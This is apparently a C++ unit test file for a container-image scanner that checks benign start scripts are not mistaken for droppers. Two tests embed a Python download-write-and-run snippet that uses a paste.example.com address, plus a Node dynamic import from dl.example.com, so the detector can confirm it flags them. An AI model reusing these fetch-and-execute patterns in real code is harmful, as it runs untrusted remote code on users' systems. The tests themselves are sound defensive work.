// Honest programs that a start command reaches: what looks like a dropper in parts of them is none.
#include <gtest/gtest.h>

#include <string>

#include "detect/image_builder.hpp"

namespace hullcheck::detect {
namespace {

std::string threats_of(const std::string& name, const std::string& text, std::vector<std::string> command) {
  ImageBuilder image;
  image.file("app/" + name, text);
  image.config().working_dir = "/app";
  image.config().cmd = std::move(command);
  std::string said;
  for (const auto& threat : image.assess().threats)
    said += threat.rule + " " + (threat.evidence.empty() ? "" : threat.evidence[0]) + "\n";
  return said;
}

constexpr std::string_view k_address = "ADDRESS = 'https://paste.example.com/api/v2/'\n";

std::string python_threats(const std::string& code) {
  return threats_of("main.py", "from urllib.request import urlopen\n" + std::string(k_address) + code,
                    {"python3", "main.py"});
}

// The name of an encoding was taken for that of the file, in the first module that was imported behind it.
TEST(HonestStarts, ANamedEncodingIsNoFileThatIsSaved) {
  EXPECT_EQ(python_threats("import subprocess\n"
                           "def save(name, mode):\n"
                           "    with open(name, mode, encoding='utf-8') as file:\n"
                           "        file.write(text)\n"
                           "def paste(text):\n"
                           "    return urlopen(ADDRESS, text.encode('utf-8'))\n"
                           "def convert(data):\n"
                           "    return subprocess.check_output(['iconv', '-t', 'utf-8'])\n"),
            "");
}

TEST(HonestStarts, AFileThatIsOnlyReadIsNotSaved) {
  EXPECT_EQ(python_threats("import subprocess\n"
                           "settings = open('/app/settings.ini', encoding='utf-8').read()\n"
                           "more = open('/app/more.ini', mode='rb').read()\n"
                           "answer = urlopen(ADDRESS).read()\n"
                           "subprocess.call(['/app/serve', '--settings', '/app/settings.ini', '/app/more.ini'])\n"),
            "");
}

// An address that a script makes was taken for what lies there.
TEST(HonestStarts, AModuleBesideTheScriptIsNotFetched) {
  const auto threats = [](const std::string& code) {
    return threats_of("main.mjs", "import { Worker } from 'worker_threads';\n" + code, {"node", "main.mjs"});
  };
  EXPECT_EQ(threats("new Worker(new URL('./worker.mjs', import.meta.url));\n"), "");
  EXPECT_EQ(threats("await import(new URL(`./${name}.mjs`, import.meta.url).href);\n"), "");
  EXPECT_NE(threats("await import(new URL('https://dl.example.com/x.mjs'));\n").find("D01"), std::string::npos);
}

// A statement of Python ends with its line: texts of the next lines are not what it names.
TEST(HonestStarts, AnImportDoesNotNameWhatStandsBehindIt) {
  EXPECT_EQ(python_threats("log = open('report.txt', 'w')\n"
                           "import sys\n"
                           "TITLE = 'see report.txt for what was said'\n"
                           "log.write(str(urlopen(ADDRESS).status))\n"),
            "");
}

TEST(HonestStarts, AFileThatIsWrittenAndRunIsStillFound) {
  for (const std::string mode : {"'wb'", "mode='wb'", "mode"}) {
    const std::string said = python_threats(
        "import os, subprocess\nmode = 'wb'\n"
        "with open('/opt/worker', " +
        mode +
        ") as file:\n"
        "    file.write(urlopen(ADDRESS).read())\n"
        "subprocess.call(['/opt/worker'])\n");
    EXPECT_NE(said.find("D02"), std::string::npos) << mode << ": " << said;
  }
}

}  // namespace
}  // namespace hullcheck::detect
